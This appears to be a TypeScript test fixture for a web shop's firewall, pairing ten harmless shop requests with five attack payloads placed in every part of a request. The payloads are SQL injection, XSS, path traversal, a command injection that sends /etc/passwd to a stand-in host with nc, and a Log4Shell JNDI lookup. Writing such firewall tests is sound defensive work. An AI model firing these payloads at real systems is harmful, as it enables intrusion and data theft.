// Requests that any shop's WAF must get right: five kinds of attack in every place a client can write to, and ten good
// requests of a web shop. Used through a real Envoy and, with the shipped documents, in process.
export type Probe = {
  readonly name: string
  readonly method: string
  readonly path: string
  readonly headers: Readonly<Record<string, string>>
  readonly body?: string | Buffer
}

const attacks: Readonly<Record<string, string>> = {
  'SQL injection': `1' UNION SELECT username, password FROM users-- -`,
  XSS: '<script>alert(document.cookie)</script>',
  traversal: '../../../../etc/passwd',
  'command injection': '; cat /etc/passwd | nc 203.0.113.66 4444',
  Log4Shell: '${jndi:ldap://203.0.113.66:1389/a}',
}

const xmlText = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')

type Placement = (payload: string) => Omit<Probe, 'name'>

const boundary = 'weirprobe'
const multipart = (payload: string): string =>
  [
    `--${boundary}`,
    'Content-Disposition: form-data; name="title"',
    '',
    'hello',
    `--${boundary}`,
    'Content-Disposition: form-data; name="comment"',
    '',
    payload,
    `--${boundary}--`,
    '',
  ].join('\r\n')

const placements: Readonly<Record<string, Placement>> = {
  query: (payload) => ({ method: 'GET', path: `/search?q=${encodeURIComponent(payload)}`, headers: {} }),
  path: (payload) => ({ method: 'GET', path: `/files/${encodeURIComponent(payload)}`, headers: {} }),
  header: (payload) => ({ method: 'GET', path: '/', headers: { 'x-forwarded-server': payload } }),
  cookie: (payload) => ({
    method: 'GET',
    path: '/',
    headers: { cookie: `lang=en; pref=${payload.replaceAll(';', '%3B')}` },
  }),
  'urlencoded body': (payload) => ({
    method: 'POST',
    path: '/login',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: `user=anna&password=${encodeURIComponent(payload)}`,
  }),
  'JSON body': (payload) => ({
    method: 'POST',
    path: '/api/cart',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ items: [{ sku: 'A-1', note: payload }] }),
  }),
  'XML body': (payload) => ({
    method: 'POST',
    path: '/api/orders',
    headers: { 'content-type': 'application/xml' },
    body: `<?xml version="1.0"?><order><note>${xmlText(payload)}</note></order>`,
  }),
  'multipart body': (payload) => ({
    method: 'POST',
    path: '/reviews',
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    body: multipart(payload),
  }),
}

export const attackProbes: readonly Probe[] = Object.entries(attacks).flatMap(([attack, payload]) =>
  Object.entries(placements).map(([place, build]) => ({ name: `${attack} in ${place}`, ...build(payload) })),
)

/** The smallest valid PNG: a real image upload without a file beside the test. */
const pixel = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
const upload = Buffer.concat([
  Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nMy new lamp\r\n--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="lamp (1).png"\r\nContent-Type: image/png\r\n\r\n`,
  ),
  pixel,
  Buffer.from(`\r\n--${boundary}--\r\n`),
])
const longCookie = `session=${'c2Vzc2lvbi1pZC0'.repeat(40)}; _ga=GA1.2.1234567890.1700000000; prefs=%7B%22theme%22%3A%22dark%22%2C%22sizes%22%3A%5B38%2C40%5D%7D`

export const benignProbes: readonly Probe[] = [
  { name: 'the home page', method: 'GET', path: '/', headers: { accept: 'text/html,application/xhtml+xml' } },
  {
    name: 'a search with an apostrophe',
    method: 'GET',
    path: `/search?q=${encodeURIComponent("men's shoes size 10 1/2")}`,
    headers: {},
  },
  {
    name: 'a search for a name',
    method: 'GET',
    path: `/search?q=${encodeURIComponent("O'Brien & Sons")}`,
    headers: {},
  },
  {
    name: 'a search in prose',
    method: 'GET',
    path: `/search?q=${encodeURIComponent('select a table from the union of oak and pine')}`,
    headers: {},
  },
  {
    name: 'a filtered list',
    method: 'GET',
    path: '/products?category=lamps&sort=price%20asc&page=2&min=10.00&max=99.95',
    headers: {},
  },
  {
    name: 'a login',
    method: 'POST',
    path: '/login',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: `user=${encodeURIComponent('anna@example.com')}&password=${encodeURIComponent("C0rrect-horse;battery'staple")}`,
  },
  {
    name: 'a JSON cart',
    method: 'POST',
    path: '/api/cart',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      items: [{ sku: 'LAMP-42', qty: 2, note: "Please wrap it; it's a gift (for mum) & add a card" }],
      coupon: 'SAVE10%',
    }),
  },
  {
    name: 'an image upload',
    method: 'POST',
    path: '/reviews',
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    body: upload,
  },
  {
    name: 'a long cookie',
    method: 'GET',
    path: '/account',
    headers: { cookie: longCookie, referer: 'https://www.example.com/search?q=lamp&utm_source=news' },
  },
  {
    name: 'a GraphQL query',
    method: 'POST',
    path: '/graphql',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      operationName: 'Product',
      variables: { id: '42' },
      query:
        'query Product($id: ID!) { product(id: $id) { name price reviews(first: 3) { text author { name } } } }',
    }),
  },
]
